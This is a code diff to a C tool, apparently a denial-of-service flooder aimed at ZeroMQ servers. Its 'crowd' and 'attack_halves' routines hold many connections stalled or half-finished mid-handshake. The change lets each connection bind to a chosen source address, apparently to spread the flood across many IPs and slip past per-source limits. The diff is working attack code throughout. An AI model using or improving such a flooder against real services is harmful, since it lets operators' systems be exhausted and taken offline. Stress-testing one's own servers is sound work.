@@ -38,8 +38,10 @@ address(const struct place *p)
 
 /* -1: the other end has no room. */
 static int
-dial(const struct sockaddr_in *a)
+dial(const struct sockaddr_in *a, uint32_t from)
 {
+	const struct sockaddr_in here = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(from) };
+	int one = 1;
 	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
 	struct linger at_once = { 1, 0 };
 
@@ -47,7 +49,10 @@ dial(const struct sockaddr_in *a)
 		return -1;
 	/* no port waits for a minute */
 	setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
-	if (connect(fd, (const struct sockaddr *)a, sizeof(*a)) < 0 && errno != EINPROGRESS) {
+	/* the port is chosen when it is known where to */
+	setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
+	if (bind(fd, (const struct sockaddr *)&here, sizeof(here)) < 0 ||
+		(connect(fd, (const struct sockaddr *)a, sizeof(*a)) < 0 && errno != EINPROGRESS)) {
 		close(fd);
 		return -1;
 	}
@@ -100,6 +105,7 @@ copy_handshake(
 
 struct raw {
 	struct sockaddr_in to;
+	uint32_t from;
 	uint8_t hello[GREETING + HELLO_FRAME];
 	int poller;
 	unsigned stop; /* how many ways there are to stop */
@@ -111,7 +117,7 @@ open_stopped(struct raw *r, struct tally *t, unsigned i)
 {
 	static const size_t say_n[] = { 0, 11, GREETING + HELLO_FRAME, 0 };
 	struct epoll_event e = { .events = EPOLLRDHUP | EPOLLOUT | EPOLLONESHOT };
-	int fd = dial(&r->to);
+	int fd = dial(&r->to, r->from);
 
 	if (fd < 0)
 		return false;
@@ -147,7 +153,9 @@ turn_stopped(struct raw *r, struct tally *t, unsigned *open)
 static void
 crowd(const struct attack_conf *c, struct tally *t, const struct place *p)
 {
-	struct raw r = { .to = address(p), .poller = epoll_create1(EPOLL_CLOEXEC) };
+	struct raw r = {
+		.to = address(p), .from = c->from, .poller = epoll_create1(EPOLL_CLOEXEC)
+	};
 	unsigned stopped = c->connections / 2, whole = c->connections - stopped, open = 0, said = 0;
 	void *ctx = zmq_ctx_new(), *s;
 
@@ -192,7 +200,8 @@ struct half {
 };
 
 static void
-open_half(struct half *h, const struct sockaddr_in to[2], unsigned i, struct tally *t)
+open_half(
+	struct half *h, const struct sockaddr_in to[2], uint32_t from, unsigned i, struct tally *t)
 {
 	static const uint8_t greeting[GREETING] = { 0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 3, 1, 'C',
 		'U', 'R', 'V', 'E' };
@@ -202,7 +211,7 @@ open_half(struct half *h, const struct sockaddr_in to[2], unsigned i, struct tal
 	uint8_t head[GREETING + 9];
 
 	h->worker = i % 2;
-	h->fd = dial(&to[h->worker]);
+	h->fd = dial(&to[h->worker], from);
 	if (h->fd < 0)
 		return;
 	memcpy(head, greeting, GREETING);
@@ -260,7 +269,7 @@ attack_halves(const struct attack_conf *c, struct tally *t)
 	for (;;) {
 		for (size_t i = 0; i < n; i++) {
 			if (v[i].fd < 0)
-				open_half(&v[i], to, (unsigned)i, t);
+				open_half(&v[i], to, c->from, (unsigned)i, t);
 			else
 				feed_half(&v[i], t);
 		}
